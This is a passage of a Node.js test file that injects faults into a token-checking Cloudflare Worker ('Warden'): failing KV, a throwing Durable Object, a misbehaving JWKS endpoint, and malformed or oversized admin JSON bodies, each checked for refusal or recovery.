// Faults, end to end: the built worker (build/index.js, unchanged) in workerd through Miniflare,
// with real local KV and Durable Objects, in front of the demo origin — and parts that fail on
// purpose, switched on and off while the worker runs:
//
//   TOGGLED FAILING KV BINDING — WARDEN_KV is a Miniflare wrapped binding that forwards every
//     call to a real local KV namespace, unless the test has switched that operation (get,
//     getWithMetadata, list, put, delete) to throw, as in a KV outage.
//   DELIBERATELY FAILING DURABLE OBJECT — WARDEN_SESSIONS is bound to a class that throws while
//     switched on and otherwise forwards each request, unchanged, to the worker's real
//     WardenSessions object of the same name.
//   FAILING JWKS ENDPOINT — a loopback HTTP server that serves the demo origin's JWKS, or refuses
//     connections, resets them, never answers, or answers garbage.
//
// Faults already covered elsewhere (not repeated here): KV down from the start, closed → 503 and
// open → allow + audit (worker-store.test.mjs); KV listing down → point reads
// (worker-store.test.mjs); KV refusing writes → admin 503, nothing stored (worker-admin.test.mjs);
// JWKS endpoint answering 503 → stale keys within the bound, then 503, then recovery, and a
// garbage JWKS never replacing good keys (worker-keys.test.mjs); 24 concurrent cutoffs for one
// subject (worker-store.test.mjs); unparsable / over-64-KiB admin bodies (worker.test.mjs,
// worker-admin.test.mjs); origin down → 502 (worker.test.mjs). Origin down or slow during a
// refresh belongs with the refresh tests.
//
// The last test sends the token attacks of the security checklist (docs/security.md) (rows 1–19) through the worker;
// docs/security.md maps every row to its tests.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { generateKeyPairSync, sign as cryptoSign, createHmac, randomUUID } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Miniflare } from "miniflare";
import { startOrigin } from "./origin/server.mjs";
import { ADMIN_TOKEN, builtWorker, wardenBindings } from "./helpers/miniflare.mjs";

const URL_ = "http://warden.test";
const NAMESPACE = "warden-kv-faults";
const nowS = () => Math.floor(Date.now() / 1000);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const claimsOf = (token) => JSON.parse(Buffer.from(token.split(".")[1], "base64url"));

// Holds which parts are failing (the wrapper and the failing object ask it on every call) and
// counts the calls that reached the failing object.
const CONTROL = `
let failing = new Set();
let calls = 0;
export default {
  async fetch(request) {
    const url = new URL(request.url);
    if (url.pathname === "/set") {
      failing = new Set(await request.json());
      return Response.json([...failing]);
    }
    if (url.pathname.startsWith("/fails/")) return new Response(failing.has(url.pathname.slice(7)) ? "yes" : "no");
    if (url.pathname === "/count/do") calls += 1;
    return new Response(String(calls));
  },
};
`;

// TOGGLED FAILING KV BINDING (see the file comment).
const KV_WRAPPER = `
export default function (env) {
  const inner = env.INNER;
  async function op(name) {
    const answer = await (await env.CONTROL.fetch("http://control/fails/kv." + name)).text();
    if (answer === "yes") throw new Error("deliberately failing KV binding (fault test): " + name);
  }
  return {
    async get(key, options) { await op("get"); return inner.get(key, options); },
    async getWithMetadata(key, options) { await op("getWithMetadata"); return inner.getWithMetadata(key, options); },
    async list(options) { await op("list"); return inner.list(options); },
    async put(key, value, options) { await op("put"); return inner.put(key, value, options); },
    async delete(key) { await op("delete"); return inner.delete(key); },
  };
}
`;

// DELIBERATELY FAILING DURABLE OBJECT (see the file comment). Counts every call; when not
// failing, forwards the request unchanged to the real object of the same name.
const FAILING_DO = `
import { DurableObject } from "cloudflare:workers";
export class FailingSessions extends DurableObject {
  async fetch(request) {
    const body = ["GET", "HEAD"].includes(request.method) ? undefined : await request.arrayBuffer();
    await this.env.CONTROL.fetch("http://control/count/do");
    const answer = await (await this.env.CONTROL.fetch("http://control/fails/do")).text();
    if (answer === "yes") throw new Error("deliberately failing Durable Object (fault test)");
    const real = this.env.REAL.get(this.env.REAL.idFromName(this.ctx.id.name));
    return real.fetch(request.url, { method: request.method, headers: request.headers, body });
  }
}
export default { fetch() { return new Response("failing-sessions"); } };
`;

const INSPECTOR = `export default { fetch() { return new Response("inspector"); } };`;

/**
 * Starts Warden in front of `origin`. `faults`: wrap KV and the Durable Object in the switchable
 * failing parts above. `persist`: a directory holding KV and Durable Object storage, so that a
 * second instance started on it sees what the first wrote.
 */
async function startFaulty(origin, vars = {}, { faults = true, persist } = {}) {
  const bindings = wardenBindings(origin, vars);
  const warden = {
    name: "warden",
    ...builtWorker(),
    bindings,
    ...(faults
      ? {
          wrappedBindings: { WARDEN_KV: { scriptName: "kv-faults" } },
          durableObjects: { WARDEN_SESSIONS: { className: "FailingSessions", scriptName: "failing-sessions" } },
        }
      : {
          kvNamespaces: { WARDEN_KV: NAMESPACE },
          durableObjects: { WARDEN_SESSIONS: { className: "WardenSessions", useSQLite: true } },
        }),
  };
  const workers = [
    warden,
    { name: "kv-inspector", modules: true, script: INSPECTOR, compatibilityDate: "2025-09-01", kvNamespaces: { KV: NAMESPACE } },
    { name: "control", modules: true, script: CONTROL, compatibilityDate: "2025-09-01" },
  ];
  if (faults) {
    workers.push(
      { name: "kv-faults", modules: true, script: KV_WRAPPER, kvNamespaces: { INNER: NAMESPACE }, serviceBindings: { CONTROL: "control" } },
      {
        name: "failing-sessions",
        modules: true,
        script: FAILING_DO,
        compatibilityDate: "2025-09-01",
        serviceBindings: { CONTROL: "control" },
        durableObjects: {
          FAILING: "FailingSessions",
          REAL: { className: "WardenSessions", scriptName: "warden", useSQLite: true },
        },
      },
    );
  }
  const audit = [];
  const mf = new Miniflare({
    workers,
    ...(persist ? { kvPersist: join(persist, "kv"), durableObjectsPersist: join(persist, "do") } : {}),
    handleStructuredLogs: ({ message }) => {
      for (const line of message.split("\n")) {
        try {
          const event = JSON.parse(line);
          if (event?.warden === "audit") audit.push(event);
        } catch {
          // not an audit line
        }
      }
    },
  });
  await mf.ready;
  const control = async (path, init) => (await mf.getWorker("control")).fetch(`http://control${path}`, init);
  return {
    mf,
    audit,
    fetch: (url, init) => mf.dispatchFetch(url, init),
    get: (token, path = "/api") => mf.dispatchFetch(`${URL_}${path}`, { headers: { authorization: `Bearer ${token}` } }),
    admin: (path, init = {}) =>
      mf.dispatchFetch(`${URL_}${path}`, {
        method: "POST",
        ...init,
        headers: { authorization: `Bearer ${ADMIN_TOKEN}`, "content-type": "application/json", ...(init.headers ?? {}) },
      }),
    kv: () => mf.getKVNamespace("KV", "kv-inspector"),
    /** Switches the named parts to failing (e.g. "kv.list", "kv.get", "do"); [] heals all. */
    fail: (parts) => control("/set", { method: "POST", body: JSON.stringify(parts) }),
    /** Calls that reached the failing Durable Object (failed or forwarded). */
    doCalls: async () => Number(await (await control("/count")).text()),
    async waitForAudit(pred, ms = 3000) {
      const end = Date.now() + ms;
      for (;;) {
        const found = audit.filter(pred);
        if (found.length || Date.now() > end) return found;
        await sleep(25);
      }
    },
    dispose: () => mf.dispose(),
  };
}

/** Everything in the namespace: names, values, expirations and metadata. */
async function dumpKv(kv) {
  const out = [];
  let cursor;
  do {
    const page = await kv.list({ cursor });
    for (const k of page.keys) out.push({ ...k, value: await kv.get(k.name) });
    cursor = page.list_complete ? undefined : page.cursor;
  } while (cursor);
  return out;
}

async function expectDenied(resp, status, code, what = "") {
  const text = await resp.text();
  assert.equal(resp.status, status, `${what}: ${text}`);
  assert.equal(resp.headers.get("cache-control"), "no-store", what);
  assert.equal(JSON.parse(text).code, code, `${what}: ${text}`);
}

async function expectAllowed(resp, sub, what = "") {
  const text = await resp.text();
  assert.equal(resp.status, 200, `${what}: ${text}`);
  assert.equal(JSON.parse(text).identity["x-warden-sub"], sub, what);
}

let origin;
const cleanups = [];
before(async () => {
  origin = await startOrigin({ port: 0 });
});
after(async () => {
  for (const c of cleanups.reverse()) await c();
  await origin?.close();
});

// Most of these faults are the listing snapshot's (WARDEN_REVOCATION_FILTER=off); the tests of
// the published filter say so and turn it on.
async function withFaulty(vars, opts, fn) {
  const w = await startFaulty(origin, { WARDEN_REVOCATION_FILTER: "off", ...vars }, opts);
  try {
    return await fn(w);
  } finally {
    await w.dispose();
  }
}

// ------------------------------------------------------------------------------------------
// KV

test("KV outage mid-run, fail closed: the snapshot serves until due, then 503; revoked stays refused; recovery", async () => {
  await withFaulty({ WARDEN_SNAPSHOT_SECONDS: "2" }, {}, async (w) => {
    const good = await origin.issue({ sub: "kv-good" });
    const mine = await origin.issue({ sub: "kv-mine" }); // revoked through this isolate
    const elsewhere = await origin.issue({ sub: "kv-else" }); // revoked by another location
    await expectAllowed(await w.get(good), "kv-good");
    assert.equal((await w.admin("/_warden/revoke", { body: JSON.stringify({ jti: claimsOf(mine).jti }) })).status, 200);
    await (await w.kv()).put(`rv:jti:${claimsOf(elsewhere).jti}`, "{}", { expiration: nowS() + 600 });
    await sleep(2100); // the next snapshot lists the record written elsewhere
    await expectDenied(await w.get(elsewhere), 401, "token_revoked", "picked up before the outage");

    await w.fail(["kv.get", "kv.getWithMetadata", "kv.list", "kv.put", "kv.delete"]);
    const reached = origin.requests.get("/api") ?? 0;
    // Within the refresh interval nothing needs KV: the snapshot answers.
    await expectAllowed(await w.get(good), "kv-good", "inside the interval");
    await expectDenied(await w.get(mine), 401, "token_revoked", "inside the interval");
    await sleep(2100);
    // Due for a refresh that fails: unknown ids cannot be checked → 503, never an allow.
    await expectDenied(await w.get(good), 503, "store_unavailable", "after the interval");
    await expectDenied(await w.get(await origin.issue({ sub: "kv-new" })), 503, "store_unavailable", "a new token");
    // This isolate's own revocation is still known (laid over every snapshot): refused, not 503.
    await expectDenied(await w.get(mine), 401, "token_revoked", "own revocation during the outage");
    // The record written elsewhere can no longer be confirmed: refused all the same (503).
    const r = await w.get(elsewhere);
    assert.ok([401, 503].includes(r.status), `revoked elsewhere, during the outage: ${r.status}`);
    assert.equal(origin.requests.get("/api"), reached + 1, "only the in-interval allow was forwarded");
    // A revocation cannot be acknowledged while KV refuses writes.
    const rv = await w.admin("/_warden/revoke", { body: JSON.stringify({ jti: claimsOf(good).jti }) });
    assert.equal(rv.status, 503);
    const errors = await w.waitForAudit((e) => e.event === "store_error" && e.op === "list");
    assert.ok(errors.length >= 1, "the failed listing is audited");

    await w.fail([]);
    await sleep(2100);
    await expectAllowed(await w.get(good), "kv-good", "after recovery");
    await expectDenied(await w.get(mine), 401, "token_revoked", "after recovery");
    await expectDenied(await w.get(elsewhere), 401, "token_revoked", "after recovery");
    assert.equal(await (await w.kv()).get(`rv:jti:${claimsOf(good).jti}`), null, "the refused revocation was not written");
  });
});

test("KV outage mid-run, fail open: unknown ids allowed with an audit line; revocations this isolate knows stay refused", async () => {
  await withFaulty({ WARDEN_SNAPSHOT_SECONDS: "1", WARDEN_FAIL_MODE: "open" }, {}, async (w) => {
    const good = await origin.issue({ sub: "open-good" });
    const mine = await origin.issue({ sub: "open-mine" });
    await expectAllowed(await w.get(good), "open-good");
    assert.equal((await w.admin("/_warden/revoke", { body: JSON.stringify({ jti: claimsOf(mine).jti }) })).status, 200);
    assert.equal((await w.admin("/_warden/revoke", { body: JSON.stringify({ sub: "open-cut" }) })).status, 200);
    const cut = await origin.issue({ sub: "open-cut" }, { iat: nowS() - 5 });

    await w.fail(["kv.get", "kv.getWithMetadata", "kv.list"]);
    await sleep(1100);
    const r = await w.get(good);
    await expectAllowed(r, "open-good", "fail open");
    const lines = await w.waitForAudit((e) => e.event === "fail_open_allow" && e.jti === claimsOf(good).jti);
    assert.equal(lines.length, 1, "one audit line for the fail-open allow");
    assert.equal(lines[0].sub, "open-good");
    // Fail-open covers unknown answers only: a revocation this isolate holds is never overridden.
    await expectDenied(await w.get(mine), 401, "token_revoked", "own jti revocation");
    await expectDenied(await w.get(cut), 401, "token_revoked", "own subject cutoff");
    // Nor does it cover signatures or PATs.
    const other = await startOrigin({ port: 0 });
    cleanups.push(() => other.close());
    await expectDenied(await w.get(await other.issue({ sub: "open-good" })), 401, "token_bad_signature");
    await expectDenied(await w.get(`wdn_pat_${"7".repeat(64)}`), 503, "store_unavailable", "PAT during the outage");
  });
});

test(
  "KV outage, fail open: a revocation learnt from an earlier snapshot is not forgotten when a refresh fails",
  async () => {
    await withFaulty({ WARDEN_SNAPSHOT_SECONDS: "1", WARDEN_FAIL_MODE: "open" }, {}, async (w) => {
      const elsewhere = await origin.issue({ sub: "open-else" });
      await (await w.kv()).put(`rv:jti:${claimsOf(elsewhere).jti}`, "{}", { expiration: nowS() + 600 });
      await sleep(1100);
      await expectDenied(await w.get(elsewhere), 401, "token_revoked", "known from the snapshot");
      await w.fail(["kv.get", "kv.getWithMetadata", "kv.list"]);
      await sleep(1100);
      await expectDenied(await w.get(elsewhere), 401, "token_revoked", "during the outage");
    });
  },
);

// ------------------------------------------------------------------------------------------
// The Durable Object

test("Durable Object throwing: the cutoff answers 503, nothing is written or enforced; healed, the same call is 200 and effective", async () => {
  await withFaulty({}, {}, async (w) => {
    const kv = await w.kv();
    const old = await origin.issue({ sub: "do-user" }, { iat: nowS() - 30 });
    await expectAllowed(await w.get(old), "do-user");
    const beforeDump = await dumpKv(kv);

    await w.fail(["do"]);
    const calls = await w.doCalls();
    const r = await w.admin("/_warden/revoke", { body: JSON.stringify({ sub: "do-user" }) });
    assert.equal(r.status, 503);
    const body = await r.json();
    assert.equal(body.error, "temporarily_unavailable");
    assert.equal(body.ok, undefined, "no acknowledgement");
    assert.equal(await w.doCalls(), calls + 1, "the cutoff did go to the (failing) object");
    assert.deepEqual(await dumpKv(kv), beforeDump, "nothing written: no rv:sub record, no index entry");
    const errors = await w.waitForAudit((e) => e.event === "store_error" && e.op === "cutoff");
    assert.equal(errors.length, 1);
    assert.equal(w.audit.filter((e) => e.event === "revoke" && e.kind === "sub").length, 0, "no revoke audit line");
    // Nothing half-applied in the isolate either: the subject's token still passes.
    await expectAllowed(await w.get(old), "do-user", "after the failed cutoff");
    // Revocations that do not need the object keep working.
    const other = await origin.issue({ sub: "do-other" });
    assert.equal((await w.admin("/_warden/revoke", { body: JSON.stringify({ jti: claimsOf(other).jti }) })).status, 200);
    await expectDenied(await w.get(other), 401, "token_revoked");

    await w.fail([]);
    const ok = await w.admin("/_warden/revoke", { body: JSON.stringify({ sub: "do-user" }) });
    assert.equal(ok.status, 200);
    const ack = await ok.json();
    await expectDenied(await w.get(old), 401, "token_revoked", "after the healed cutoff");
    assert.deepEqual(JSON.parse(await kv.get("rv:sub:do-user")), { before: ack.before });
  });
});

test("revocation filter on, the log object throwing: a revocation is refused (503), never acknowledged, nothing written; healed, it is recorded and enforced", async () => {
  await withFaulty({ WARDEN_REVOCATION_FILTER: "on" }, {}, async (w) => {
    const kv = await w.kv();
    const victim = await origin.issue({ sub: "log-user" });
    await expectAllowed(await w.get(victim), "log-user");
    const records = async () => (await dumpKv(kv)).filter((k) => !k.name.startsWith("rvf:"));
    const before = await records();

    await w.fail(["do"]);
    const { jti } = claimsOf(victim);
    for (const body of [{ jti }, { revocations: [{ jti }, { kid: "k-log" }] }]) {
      const path = body.jti ? "/_warden/revoke" : "/_warden/revoke/batch";
      const r = await w.admin(path, { body: JSON.stringify(body) });
      assert.equal(r.status, 503, path);
      assert.equal((await r.json()).error, "temporarily_unavailable");
    }
    assert.deepEqual(await records(), before, "no rv: record without its log entry");
    const errors = await w.waitForAudit((e) => e.event === "store_error" && (e.op === "put" || e.op === "log"));
    assert.ok(errors.length >= 2, JSON.stringify(errors));
    assert.equal(w.audit.filter((e) => e.event === "revoke").length, 0, "no revoke audit line");
    await expectAllowed(await w.get(victim), "log-user", "nothing half-applied in the isolate");

    await w.fail([]);
    assert.equal((await w.admin("/_warden/revoke", { body: JSON.stringify({ jti }) })).status, 200);
    await expectDenied(await w.get(victim), 401, "token_revoked");
    assert.ok(await kv.get(`rv:jti:${jti}`), "the record is written once the log took it");
  });
});

// ------------------------------------------------------------------------------------------
// Bursts of revocations

test("a burst of concurrent revocations (one subject, many tokens, sessions, PATs): none lost, also after a restart on the same storage", async () => {
  const dir = mkdtempSync(join(tmpdir(), "warden-faults-"));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  const now = nowS();
  const jtiVictims = await Promise.all(Array.from({ length: 120 }, (_, i) => origin.issue({ sub: `many-${i % 12}` })));
  const sids = Array.from({ length: 20 }, (_, i) => `burst-sid-${i}`);
  const sidVictims = await Promise.all(sids.flatMap((sid) => [0, 1].map(() => origin.issue({ sub: "sess-user", sid }))));
  const cutoffs = Array.from({ length: 40 }, (_, i) => now - 400 + i * 7); // max: now - 127
  const maxCutoff = Math.max(...cutoffs);
  const subVictims = await Promise.all([0, 1, 50, 127].map((d) => origin.issue({ sub: "burst" }, { iat: maxCutoff - d })));
  const survivors = [
    ...(await Promise.all(Array.from({ length: 10 }, (_, i) => origin.issue({ sub: `many-${i}` })))),
    await origin.issue({ sub: "burst" }, { iat: maxCutoff + 1 }),
    await origin.issue({ sub: "sess-user", sid: "untouched-session" }),
  ];
  let pats;

  const checkAll = async (w, when) => {
    const results = await Promise.all(
      [...jtiVictims, ...sidVictims, ...subVictims].map(async (t, i) => {
        const r = await w.get(t);
        return { i, status: r.status, code: JSON.parse(await r.text()).code };
      }),
    );
    const wrong = results.filter((r) => r.status !== 401 || r.code !== "token_revoked");
    assert.deepEqual(wrong, [], `${when}: revoked tokens that were not refused`);
    for (const p of pats) await expectDenied(await w.get(p.token), 401, "token_revoked", `${when}: PAT ${p.id}`);
    for (const t of survivors) assert.equal((await w.get(t)).status, 200, `${when}: ${claimsOf(t).sub} must not be revoked`);
  };

  await withFaulty({}, { faults: false, persist: dir }, async (w) => {
    pats = [];
    for (let i = 0; i < 15; i++) {
      const r = await w.admin("/_warden/pats", { body: JSON.stringify({ sub: "pat-user", expires_at: 0 }) });
      assert.equal(r.status, 201);
      pats.push(await r.json());
    }
    for (const p of pats) assert.equal((await w.get(p.token)).status, 200);
    for (const t of [...jtiVictims, ...sidVictims, ...subVictims, ...survivors]) assert.equal((await w.get(t)).status, 200);

    const shuffle = (xs) => xs.map((x) => [Math.random(), x]).sort((a, b) => a[0] - b[0]).map(([, x]) => x);
    const bodies = shuffle([
      ...jtiVictims.map((t) => ({ jti: claimsOf(t).jti, exp: claimsOf(t).exp, sub: claimsOf(t).sub })),
      ...sids.map((sid) => ({ sid, sub: "sess-user" })),
      ...cutoffs.map((before) => ({ sub: "burst", before })),
      ...pats.map((p) => ({ pat: p.id })),
    ]);
    const replies = await Promise.all(
      bodies.map(async (b) => {
        const r = await w.admin("/_warden/revoke", { body: JSON.stringify(b) });
        return { status: r.status, text: await r.text() };
      }),
    );
    const refused = replies.filter((r) => r.status !== 200);
    assert.deepEqual(refused, [], "every revocation acknowledged");
    for (const [i, { text }] of replies.entries()) {
      const ack = JSON.parse(text);
      assert.equal(ack.ok, true);
      if (bodies[i].before !== undefined) assert.ok(ack.before >= bodies[i].before, "a cutoff never acknowledged below its request");
    }
    await checkAll(w, "same instance");
    const kv = await w.kv();
    assert.deepEqual(JSON.parse(await kv.get("rv:sub:burst")), { before: maxCutoff });
    const listed = await (await w.admin("/_warden/revocations?sub=many-3", { method: "GET" })).json();
    assert.equal(listed.revocations.filter((x) => x.kind === "jti").length, 10, "every jti revocation indexed");
  });

  // A fresh instance on the same storage: a new isolate with no overlay of its own writes, so
  // everything must come from KV (and the object's storage).
  await withFaulty({}, { faults: false, persist: dir }, async (w) => {
    await checkAll(w, "fresh instance");
    const r = await w.admin("/_warden/revoke", { body: JSON.stringify({ sub: "burst", before: now - 1000 }) });
    assert.equal((await r.json()).before, maxCutoff, "the object's stored maximum survived the restart");
  });
});

// ------------------------------------------------------------------------------------------
// The admin API fed hostile JSON

const deep = (n) => `{"jti":${"[".repeat(n)}${"]".repeat(n)}}`;
const REVOKE_BODIES = [
  ["empty body", ""],
  ["whitespace", "   \n"],
  ["truncated", '{"jti":"a"'],
  ["trailing garbage", '{"jti":"a"} x'],
  ["two objects", '{"jti":"a"}{"jti":"b"}'],
  ["single quotes", "{'jti':'a'}"],
  ["unquoted key", "{jti:\"a\"}"],
  ["trailing comma", '{"jti":"a",}'],
  ["comment", '{"jti":"a" /* x */}'],
  ["NaN", '{"jti":"a","exp":NaN}'],
  ["BOM", '\ufeff{"jti":"a"}'],
  ["invalid UTF-8", Buffer.from([0x7b, 0x22, 0x6a, 0x74, 0x69, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d])],
  ["lone surrogate", '{"jti":"\\ud800"}'],
  ["deep nesting", deep(5000)],
  ["null", "null"],
  ["array", '[{"jti":"a"}]'],
  ["string", '"jti"'],
  ["number", "42"],
  ["empty object", "{}"],
  ["jti number", '{"jti":42}'],
  ["jti bool", '{"jti":true}'],
  ["jti null", '{"jti":null}'],
  ["jti array", '{"jti":["a"]}'],
  ["jti object", '{"jti":{"id":"a"}}'],
  ["jti empty", '{"jti":""}'],
  ["jti 257 bytes", JSON.stringify({ jti: "x".repeat(257) })],
  ["exp string", '{"jti":"a","exp":"1700000000"}'],
  ["exp float", '{"jti":"a","exp":1700000000.5}'],
  ["exp negative", '{"jti":"a","exp":-1}'],
  ["exp huge", '{"jti":"a","exp":1e400}'],
  ["exp past year 9999", '{"jti":"a","exp":253402300800}'],
  ["exp u64 overflow", '{"jti":"a","exp":18446744073709551616}'],
  ["sub number", '{"sub":7}'],
  ["before string", '{"sub":"a","before":"now"}'],
  ["before in the future", JSON.stringify({ sub: "a", before: 4_000_000_000 })],
  ["sid with kid", '{"sid":"s","kid":"k"}'],
  ["unknown field", '{"jti":"a","jtl":"b"}'],
  ["kid with sub", '{"kid":"k","sub":"a"}'],
  ["token empty", '{"token":""}'],
  ["token number", '{"token":5}'],
  ["hint number", '{"token":"a.b.c","token_type_hint":1}'],
  ["pat number", '{"pat":7}'],
];
const PAT_BODIES = [
  ["empty", "{}"],
  ["broken", '{"sub":"x",'],
  ["sub number", '{"sub":1,"expires_at":0}'],
  ["expires_at missing", '{"sub":"x"}'],
  ["expires_at string", '{"sub":"x","expires_at":"0"}'],
  ["expires_at negative", '{"sub":"x","expires_at":-5}'],
  ["expires_at past", '{"sub":"x","expires_at":1000}'],
  ["expires_at float", '{"sub":"x","expires_at":0.5}'],
  ["scopes string", '{"sub":"x","expires_at":0,"scopes":"read"}'],
  ["scopes numbers", '{"sub":"x","expires_at":0,"scopes":[1,2]}'],
  ["scope with space", '{"sub":"x","expires_at":0,"scopes":["a b"]}'],
  ["scope with quote", '{"sub":"x","expires_at":0,"scopes":["a\\"b"]}'],
  ["scope too long", JSON.stringify({ sub: "x", expires_at: 0, scopes: ["s".repeat(65)] })],
  ["too many scopes", JSON.stringify({ sub: "x", expires_at: 0, scopes: Array.from({ length: 33 }, (_, i) => `s${i}`) })],
  ["unknown field", '{"sub":"x","expires_at":0,"token":"mine"}'],
  ["array", '[{"sub":"x","expires_at":0}]'],
  ["deep nesting", `{"sub":"x","expires_at":0,"scopes":${"[".repeat(5000)}${"]".repeat(5000)}}`],
];

test("admin API fed broken, wrongly typed, deeply nested and oversized JSON: 400/413, and nothing changes", async () => {
  await withFaulty({}, {}, async (w) => {
    const kv = await w.kv();
    // Something to keep: a revocation and a PAT written before the onslaught.
    const victim = await origin.issue({ sub: "hostile" });
    assert.equal((await w.admin("/_warden/revoke", { body: JSON.stringify({ jti: claimsOf(victim).jti, sub: "hostile" }) })).status, 200);
    const pat = await (await w.admin("/_warden/pats", { body: JSON.stringify({ sub: "hostile", expires_at: 0 }) })).json();
    const good = await origin.issue({ sub: "hostile" });
    const snapshot = await dumpKv(kv);
    const doCalls = await w.doCalls();

    const expect400 = async (path, name, body) => {
      const r = await w.admin(path, { body });
      const text = await r.text();
      assert.equal(r.status, 400, `${path} ${name}: ${text}`);
      const json = JSON.parse(text);
      assert.equal(json.error, "invalid_request", name);
      assert.ok(json.error_description.length > 0, name);
      assert.equal(r.headers.get("cache-control"), "no-store", name);
    };
    for (const [name, body] of REVOKE_BODIES) await expect400("/_warden/revoke", name, body);
    for (const [name, body] of PAT_BODIES) await expect400("/_warden/pats", name, body);

    // Oversized: declared, and streamed without a length (chunked); 413 either way.
    const big = JSON.stringify({ jti: "big", pad: "x".repeat(80 * 1024) });
    for (const path of ["/_warden/revoke", "/_warden/pats"]) {
      assert.equal((await w.admin(path, { body: big })).status, 413, `${path} declared`);
      const stream = new ReadableStream({
        start(c) {
          for (let i = 0; i < 40; i++) c.enqueue(new TextEncoder().encode("x".repeat(4096)));
          c.close();
        },
      });
      const r = await w.admin(path, { body: stream, duplex: "half" });
      assert.equal(r.status, 413, `${path} streamed`);
    }
    // A well-formed body under the wrong method or content type changes nothing either.
    assert.equal((await w.admin("/_warden/revoke", { method: "PUT", body: JSON.stringify({ jti: "put" }) })).status, 405);
    assert.equal((await w.admin("/_warden/revoke", { method: "GET" })).status, 405);

    assert.deepEqual(await dumpKv(kv), snapshot, "KV is exactly as before");
    assert.equal(await w.doCalls(), doCalls, "the subject object was never called");
    assert.equal(w.audit.filter((e) => e.event === "revoke").length, 1, "only the one real revocation was audited");
    // And the worker still works: the revocation holds, the PAT and an unrevoked token pass.
    await expectDenied(await w.get(victim), 401, "token_revoked");
    await expectAllowed(await w.get(good), "hostile");
    assert.equal((await w.get(pat.token)).status, 200);
  });
});

test(
  "admin API: a body with a duplicated key is refused, not read last-wins",
  async () => {
    await withFaulty({}, {}, async (w) => {
      const snapshot = await dumpKv(await w.kv());
      for (const body of ['{"jti":"a","jti":"b"}', '{"sub":"u1","sub":"u2"}', '{"sub":"x","expires_at":0,"sub":"y"}']) {
        const path = body.includes("expires_at") ? "/_warden/pats" : "/_warden/revoke";
        const r = await w.admin(path, { body });
        assert.equal(r.status, 400, `${body}: ${await r.text()}`);
      }
      assert.deepEqual(await dumpKv(await w.kv()), snapshot);
    });
  },
);

// ------------------------------------------------------------------------------------------
// The JWKS endpoint

/** A loopback JWKS endpoint for `o` whose behaviour the test sets: see `mode` below. */
async function jwksEndpoint(o) {
  const state = { mode: "ok", hits: 0 };
  const hung = new Set();
  const handler = (req, res) => {
    state.hits += 1;
    const json = (status, body, headers = {}) => {
      res.writeHead(status, { "content-type": "application/json", "cache-control": "public, max-age=1", ...headers });
      res.end(typeof body === "string" ? body : JSON.stringify(body));
    };
    switch (state.mode) {
      case "ok":
        return json(200, o.jwks);
      case "reset": // the connection is cut before any answer
        return req.socket.destroy();
      case "hang": // accepted, never answered
        hung.add(res);
        return undefined;
      case "html":
        return json(200, "<html><body>502 Bad Gateway</body></html>", { "content-type": "text/html" });
      case "truncated":
        return json(200, JSON.stringify(o.jwks).slice(0, 40));
      case "empty":
        return json(200, { keys: [] });
      case "weak": // a 5-byte HMAC secret and an encryption key: refused at load
        return json(200, { keys: [{ kty: "oct", kid: "w", alg: "HS256", k: "c2hvcnQ" }, { ...o.jwks.keys[0], use: "enc" }] });
      case "huge": // the real keys, padded past the 256 KiB limit
        return json(200, { keys: o.jwks.keys, pad: "x".repeat(300 * 1024) });
      case "status500":
        return json(500, { error: "down" });
      default:
        throw new Error(`unknown mode ${state.mode}`);
    }
  };
  let server = createServer(handler);
  await new Promise((r) => server.listen(0, "127.0.0.1", r));
  const { port } = server.address();
  const stop = () =>
    new Promise((r) => {
      for (const res of hung) res.destroy();
      hung.clear();
      server.close(r);
      server.closeAllConnections();
    });
  return {
    url: `http://127.0.0.1:${port}/.well-known/jwks.json`,
    state,
    /** Refuse connections: nothing listens on the port any more. */
    down: stop,
    async up() {
      server = createServer(handler);
      await new Promise((r) => server.listen(port, "127.0.0.1", r));
    },
    close: stop,
  };
}

async function health(w) {
  return (await (await w.admin("/_warden/health", { method: "GET" })).json()).jwks;
}

test("JWKS endpoint refusing, resetting, hanging or answering garbage, with no keys held: 503 keys_unavailable, nothing forwarded", async () => {
  const ep = await jwksEndpoint(origin);
  cleanups.push(() => ep.close());
  const token = await origin.issue({ sub: "cold" });
  for (const mode of ["down", "reset", "hang", "html", "truncated", "empty", "weak", "huge", "status500"]) {
    if (mode === "down") await ep.down();
    else ep.state.mode = mode;
    await withFaulty({ WARDEN_JWKS: undefined, WARDEN_JWKS_URL: ep.url }, {}, async (w) => {
      const reached = origin.requests.get("/api") ?? 0;
      const t0 = Date.now();
      await expectDenied(await w.get(token), 503, "keys_unavailable", mode);
      const ms = Date.now() - t0;
      if (mode === "hang") assert.ok(ms >= 4500 && ms < 9000, `a hanging endpoint is given up after the fetch timeout (${ms} ms)`);
      else assert.ok(ms < 4000, `${mode}: answered in ${ms} ms`);
      assert.equal(origin.requests.get("/api") ?? 0, reached, `${mode}: nothing forwarded`);
      assert.ok((await health(w)).fetched === false || (await health(w)).failures >= 1, mode);
    });
    if (mode === "down") await ep.up();
  }
  // The same endpoint healthy again: a fresh worker verifies.
  ep.state.mode = "ok";
  await withFaulty({ WARDEN_JWKS: undefined, WARDEN_JWKS_URL: ep.url }, {}, async (w) => {
    await expectAllowed(await w.get(token), "cold");
  });
});

test("JWKS endpoint failing in every way while keys are held: stale keys serve within WARDEN_JWKS_STALE_SECONDS, then 503, then recovery", async () => {
  const ep = await jwksEndpoint(origin);
  cleanups.push(() => ep.close());
  const STALE = 12;
  await withFaulty(
    { WARDEN_JWKS: undefined, WARDEN_JWKS_URL: ep.url, WARDEN_JWKS_COOLDOWN_SECONDS: "1", WARDEN_JWKS_STALE_SECONDS: String(STALE) },
    {},
    async (w) => {
      const token = await origin.issue({ sub: "warm" });
      await expectAllowed(await w.get(token), "warm");
      const h0 = await health(w);
      assert.equal(h0.fetches, 1);
      const fresh = h0.fresh_until; // max-age 1: due for a refetch from here, usable until fresh + STALE
      /** Waits until the wall clock is inside second `second` (plus a margin). */
      const at = async (second) => {
        const wait = second * 1000 + 150 - Date.now();
        if (wait > 0) await sleep(wait);
      };
      let failures = h0.failures;
      const stale = async (mode, second) => {
        await at(second);
        if (mode === "down") await ep.down();
        else ep.state.mode = mode;
        const t0 = Date.now();
